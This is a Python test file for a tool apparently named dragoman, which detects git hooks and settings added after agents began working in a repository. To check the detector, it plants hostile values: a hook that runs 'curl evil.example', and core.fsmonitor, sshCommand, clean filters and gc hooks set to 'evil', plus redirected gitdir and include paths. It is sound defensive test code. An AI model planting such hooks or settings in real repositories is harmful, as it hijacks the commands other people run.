"""Settings and hooks of a repository that were changed since agents work there are noticed and named."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from dragoman.errors import ConfigError
from dragoman.workspace.git_actions import commit, push
from dragoman.workspace.git_trust import REPLACED, RepositoryTrust
from workspace.repositories import Clone, git


@pytest.fixture(autouse=True)
def own_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)


@pytest.fixture
def clone(tmp_path: Path) -> Clone:
    return Clone(tmp_path)


@pytest.fixture
def trust(tmp_path: Path) -> RepositoryTrust:
    return RepositoryTrust(tmp_path / "dragoman")


def test_what_was_there_before_is_trusted_and_what_came_later_is_named(clone: Clone, trust: RepositoryTrust) -> None:
    clone.hook("pre-commit", "true")
    clone.git("config", "core.sshCommand", "ssh -4")
    trust.remember(clone.root)
    assert trust.changes(clone.root) == ()
    clone.hook("pre-push", "curl evil.example")
    clone.hook("pre-commit", "curl evil.example")
    clone.git("config", "core.sshCommand", "evil")
    clone.git("config", "filter.x.clean", "evil")
    clone.git("config", "include.path", "../planted")
    (clone.root / "planted").write_text("[gpg]\n\tprogram = evil\n")
    (clone.root / ".git" / "info").mkdir(exist_ok=True)
    (clone.root / ".git" / "info" / "attributes").write_text("* filter=x\n")
    assert trust.changes(clone.root) == (
        "hook pre-commit",
        "hook pre-push (new)",
        "info/attributes (new)",
        "setting core.sshcommand",
        "setting filter.x.clean (new)",
        "setting gpg.program (new)",
        "setting include.path (new)",
    )
    trust.trust(clone.root)
    assert trust.changes(clone.root) == ()
    (clone.root / ".git" / "hooks" / "pre-commit").unlink()
    assert trust.changes(clone.root) == ("hook pre-commit (removed)",)


def test_a_repository_that_leads_to_another_one_is_named(clone: Clone, trust: RepositoryTrust, tmp_path: Path) -> None:
    trust.remember(clone.root)
    clone.git("clone", "--quiet", "--bare", ".", str(tmp_path / "planted"))
    (clone.root / ".git" / "commondir").write_text(str(tmp_path / "planted"))
    assert "commondir (new)" in trust.changes(clone.root)


def test_a_pipe_in_the_place_of_a_hook_is_named_and_not_read(clone: Clone, trust: RepositoryTrust) -> None:
    trust.remember(clone.root)
    hooks = clone.root / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    os.mkfifo(hooks / "pre-commit")
    clone.git("config", "gc.auto", "0")
    clone.git("config", "gc.recentObjectsHook", "evil")
    assert trust.changes(clone.root) == ("hook pre-commit (new)", "setting gc.recentobjectshook (new)")


def test_ordinary_work_changes_nothing_that_counts(clone: Clone, trust: RepositoryTrust, tmp_path: Path) -> None:
    trust.remember(clone.root)
    clone.git("switch", "--quiet", "-c", "feature")
    clone.write("a.txt", "changed\n")
    commit(clone.repository, "changed")
    push(clone.repository)
    clone.git("config", "user.name", "Grace")
    clone.git("config", "pull.rebase", "true")
    clone.git("worktree", "add", "--quiet", "-b", "side", str(tmp_path / "side"))
    assert trust.changes(clone.root) == ()


def test_a_later_session_does_not_make_a_planted_hook_trusted(
    clone: Clone, trust: RepositoryTrust, tmp_path: Path
) -> None:
    trust.remember(clone.root)
    clone.hook("pre-commit", "evil")
    trust.remember(clone.root)
    side = tmp_path / "side"
    clone.git("worktree", "add", "--quiet", "-b", "side", str(side))
    trust.remember(side)
    trust.remember(clone.root / "sub")
    for folder in (clone.root, side, clone.root / "sub"):
        assert trust.changes(folder) == ("hook pre-commit (new)",)


def test_another_repository_in_its_place_is_noticed(clone: Clone, trust: RepositoryTrust, tmp_path: Path) -> None:
    clone.write("sub/file", "x\n")
    trust.remember(clone.root)
    trust.remember(clone.root / "sub")
    git(clone.root / "sub", "init", "--quiet")
    assert trust.changes(clone.root / "sub") == (REPLACED,)
    planted = tmp_path / "planted"
    git(tmp_path, "init", "--quiet", str(planted))
    (clone.root / ".git").rename(tmp_path / "moved")
    (clone.root / ".git").write_text(f"gitdir: {planted / '.git'}\n")
    git(planted, "config", "core.fsmonitor", "evil")
    assert trust.changes(clone.root) == (REPLACED, "setting core.fsmonitor (new)")


def test_a_repository_that_an_agent_created_is_fine_and_its_hooks_are_not(
    trust: RepositoryTrust, tmp_path: Path
) -> None:
    folder = tmp_path / "new"
    folder.mkdir()
    trust.remember(folder)
    assert trust.changes(folder) == ()
    git(folder, "init", "--quiet")
    assert trust.changes(folder) == ()
    (folder / ".git" / "hooks").mkdir(exist_ok=True)
    (folder / ".git" / "hooks" / "pre-commit").write_text("evil")
    assert trust.changes(folder) == ("hook pre-commit (new)",)
    trust.remember(folder)  # the next session
    assert trust.changes(folder) == ("hook pre-commit (new)",)
    trust.trust(folder)
    assert trust.changes(folder) == ()


def test_a_repository_below_a_folder_in_which_agents_work_is_not_trusted_at_first_sight(
    clone: Clone, trust: RepositoryTrust, tmp_path: Path
) -> None:
    trust.remember(clone.root)
    nested = clone.root / "nested"
    git(clone.root, "init", "--quiet", str(nested))
    assert trust.changes(nested) == ()
    (nested / ".git" / "hooks").mkdir(exist_ok=True)
    (nested / ".git" / "hooks" / "pre-commit").write_text("evil")
    assert trust.changes(nested) == ("hook pre-commit (new)",)
    trust.remember(nested)  # a session is opened there
    assert trust.changes(nested) == ("hook pre-commit (new)",)
    elsewhere = tmp_path / "elsewhere"
    git(tmp_path, "init", "--quiet", str(elsewhere))
    git(elsewhere, "config", "core.sshCommand", "ssh -4")
    trust.remember(elsewhere)
    assert trust.changes(elsewhere) == ()


def test_hooks_in_a_folder_of_the_work_tree_count(clone: Clone, trust: RepositoryTrust) -> None:
    clone.git("config", "core.hooksPath", ".husky")
    clone.hook("pre-commit", ". _/run", folder=clone.root / ".husky")
    clone.write(".husky/_/run", "true\n")
    trust.remember(clone.root)
    clone.write(".husky/_/run", "evil\n")
    assert trust.changes(clone.root) == ("hook _/run",)


def test_a_repository_in_which_no_agent_worked_is_not_recorded(
    clone: Clone, trust: RepositoryTrust, tmp_path: Path
) -> None:
    assert trust.changes(clone.root) == ()
    assert not (tmp_path / "dragoman").exists()


def test_the_file_has_digests_and_forgets_folders_that_are_gone(
    clone: Clone, trust: RepositoryTrust, tmp_path: Path
) -> None:
    clone.git("config", "http.extraHeader", "Authorization: secret-token")
    gone = tmp_path / "gone"
    gone.mkdir()
    trust.remember(gone)
    gone.rmdir()
    trust.remember(clone.root)
    file = tmp_path / "dragoman" / "repositories.json"
    assert file.stat().st_mode & 0o777 == 0o600
    assert "secret-token" not in file.read_text()
    assert list(json.loads(file.read_text())["folders"]) == [str(clone.root)]
    file.write_text("broken")
    with pytest.raises(ConfigError, match=r"repositories\.json"):
        trust.changes(clone.root)
